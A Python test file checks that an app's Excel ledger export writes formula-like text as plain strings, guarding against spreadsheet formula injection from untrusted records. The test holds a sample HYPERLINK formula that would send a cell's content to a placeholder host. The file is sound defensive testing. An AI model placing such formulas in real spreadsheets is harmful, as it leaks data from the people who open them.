"""A text written into a workbook this app exports stays text: one beginning with "=" would otherwise
be stored as a formula that Excel runs on opening (a link fetched, a cell's content sent away). Names,
summaries and breakdown labels come from records other offices sent (issue 17: a signature says who
sent them, not that they are harmless)."""

from __future__ import annotations

from datetime import date
from types import SimpleNamespace

from openpyxl import load_workbook

from app.services.report_export import write_ledger_xlsx

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'


def test_a_text_that_reads_as_a_formula_is_written_as_text(tmp_path):
    out = tmp_path / "台账.xlsx"
    rows = [SimpleNamespace(name=FORMULA, received_on=date(2026, 3, 2), count=3)]
    write_ledger_xlsx(rows, [("name", "被反映人", 10), ("received_on", "受理日期", 12), ("count", "件数", 6)], out, "台账")
    ws = load_workbook(out).active
    assert ws["A2"].data_type == "s" and ws["A2"].value == FORMULA
    assert ws["B2"].is_date and ws["C2"].value == 3  # other values keep their types
